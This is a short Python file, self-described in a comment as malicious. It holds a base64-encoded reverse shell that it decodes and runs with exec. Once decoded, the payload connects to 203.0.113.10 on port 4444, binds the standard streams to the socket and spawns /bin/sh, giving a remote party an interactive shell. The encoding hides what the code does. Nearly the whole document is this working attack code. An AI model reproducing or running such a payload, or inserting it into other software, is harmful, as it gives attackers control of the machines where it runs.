# Malicious, obfuscated: a base64-encoded Python reverse shell (socket + dup2 + pty.spawn) run with exec.
import base64

code = "aW1wb3J0IHNvY2tldCxvcyxwdHkKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiMjAzLjAuMTEzLjEwIiw0NDQ0KSkKW29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXQpwdHkuc3Bhd24oIi9iaW4vc2giKQo="
exec(base64.b64decode(code).decode())
